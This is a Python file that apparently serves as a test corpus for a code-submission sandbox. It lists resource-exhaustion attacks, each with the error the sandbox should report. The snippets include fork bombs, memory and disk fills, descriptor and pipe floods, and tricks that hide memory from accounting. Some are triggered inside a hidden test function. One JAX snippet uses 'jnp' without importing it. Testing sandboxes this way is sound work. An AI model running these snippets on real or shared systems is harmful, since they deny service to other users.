"""Attacks that use up memory, disk, processes, threads or descriptors."""

from attacks.corpus.attack import Attack

_TOO_MUCH_MEMORY = "used more memory than a submission may"
_TOO_MANY_PROCESSES = "started more processes than a submission may"

EXHAUSTING = (
    Attack(
        "fills the heap",
        "Keeps more than there is.",
        "rows = []\nwhile True: rows.append(bytearray(b'x' * 2**26))",
        told=f"MemoryError|{_TOO_MUCH_MEMORY}",
        limits={"cell_seconds": 10},
        cold=True,
    ),
    Attack(
        "fills the heap when it is asked",
        "Keeps more than there is, in the middle of a hidden test.",
        """
rows = []
def posterior_mean(*args):
    while True: rows.append(bytearray(b"x" * 2**26))
""",
        answers=True,
        told=f"MemoryError|{_TOO_MUCH_MEMORY}",
        limits={"call_seconds": 10},
    ),
    Attack(
        "fills memory with many processes",
        "Stays below the limit in each of them.",
        """
import os
for _ in range(3):
    os.fork()
rows = []
while True:
    rows.append(bytearray(b"x" * 2**24))
""",
        told=_TOO_MUCH_MEMORY,
        cold=True,
    ),
    Attack(
        "hides memory in an anonymous file",
        "Writes into memory files, which belong to no process.",
        """
import os
kept = []
for _ in range(30):
    kept.append(os.memfd_create("kept"))
    os.write(kept[-1], bytes(50 * 2**20))
print(len(kept), "files of 50 MB")
""",
        told=f"PermissionError|{_TOO_MUCH_MEMORY}",
        cold=True,
    ),
    Attack(
        "hides memory in System V segments",
        "Makes segments, writes into them and lets go of them.",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype, libc.shmdt.argtypes = ctypes.c_void_p, [ctypes.c_void_p]
for _ in range(30):
    segment = libc.shmget(0, 50 * 2**20, 0o1600)
    if segment == -1:
        raise MemoryError("no more segments")
    here = libc.shmat(segment, None, 0)
    ctypes.memset(here, 1, 50 * 2**20)
    libc.shmdt(here)
""",
        told=f"no more segments|{_TOO_MUCH_MEMORY}",
        cold=True,
    ),
    Attack(
        "hides memory in shared pages",
        "Writes into shared memory and takes it out of its page table, where it is counted.",
        """
import subprocess, sys, time
hide = '''
import mmap, time
area = mmap.mmap(-1, 900 * 2**20)
for start in range(0, len(area), 2**20):
    area[start : start + 2**20] = bytes(2**20)
    area.madvise(mmap.MADV_DONTNEED)
print("hidden", flush=True)
time.sleep(1000)
'''
helpers = [subprocess.Popen([sys.executable, "-SIc", hide], stdout=-1) for _ in range(4)]
print([helper.stdout.readline() for helper in helpers].count(b"hidden\\n"), "hidden")
""",
        told="[0-3] hidden|it ended its own kernel",
        limits={"cell_seconds": 10},
        cold=True,
        needs_control_group=True,
    ),
    Attack(
        "fills the memory file systems",
        "Writes files until there is no room, in every place where it may.",
        """
def fill(folder):
    for number in range(100):
        with open(f"{folder}/{number}", "wb") as file:
            for _ in range(10):
                file.write(bytes(2**20))
for folder in ("/dev/shm", "/tmp", "/scratch"):
    try:
        fill(folder)
    except OSError as error:
        print(folder, error.strerror)
""",
        told="/scratch No space left on device",
        cold=True,
    ),
    Attack(
        "writes one large file",
        "Makes a file that is larger than all its room, mostly holes.",
        "open('/scratch/large', 'wb').truncate(10**12)",
        told="File too large",
    ),
    Attack(
        "makes files without end",
        "Uses up the directory entries and not the room.",
        "number = 0\nwhile True:\n    open(f'/scratch/{number}', 'w').close()\n    number += 1",
        told="No space left on device|This cell was interrupted",
    ),
    Attack(
        "starts processes without end",
        "Forks until nobody can start anything any more.",
        "import os, time\nwhile True:\n    try: os.fork()\n    except OSError: time.sleep(1)",
        told=f"{_TOO_MANY_PROCESSES}|{_TOO_MUCH_MEMORY}",
        cold=True,
    ),
    Attack(
        "starts processes when it is asked",
        "Does so in the middle of a hidden test.",
        """
import os
def posterior_mean(*args):
    while True:
        os.fork()
""",
        answers=True,
        told=f"{_TOO_MANY_PROCESSES}|{_TOO_MUCH_MEMORY}|BlockingIOError",
    ),
    Attack(
        "starts threads without end",
        "Does the same with threads, which are cheaper.",
        """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    time.sleep(0.001)
""",
        told=f"{_TOO_MANY_PROCESSES}|can't start new thread",
        limits={"restarts": 1},
    ),
    Attack(
        "opens files without end",
        "Uses up the descriptors, so that the kernel can open nothing any more.",
        "kept = []\nwhile True: kept.append(open('/dev/null'))",
        told="Too many open files|This cell was stopped",
    ),
    Attack(
        "fills pipes",
        "Leaves data in the machine's own buffers, which belong to no process.",
        """
import fcntl, os
pipes = []
while True:
    pipes.append(os.pipe())
    os.set_blocking(pipes[-1][1], False)
    fcntl.fcntl(pipes[-1][1], 1031, 2**16)
    os.write(pipes[-1][1], bytes(2**16))
""",
        told="Too many open files|Operation not permitted",
    ),
    Attack(
        "lets JAX compile without end",
        "Writes a loop of a hundred thousand steps into one program.",
        """
import jax
def unrolled(x):
    for _ in range(10**5):
        x = jnp.sin(x)
    return x
jax.jit(unrolled)(1.0)
""",
        told="interrupted|stopped",
    ),
)
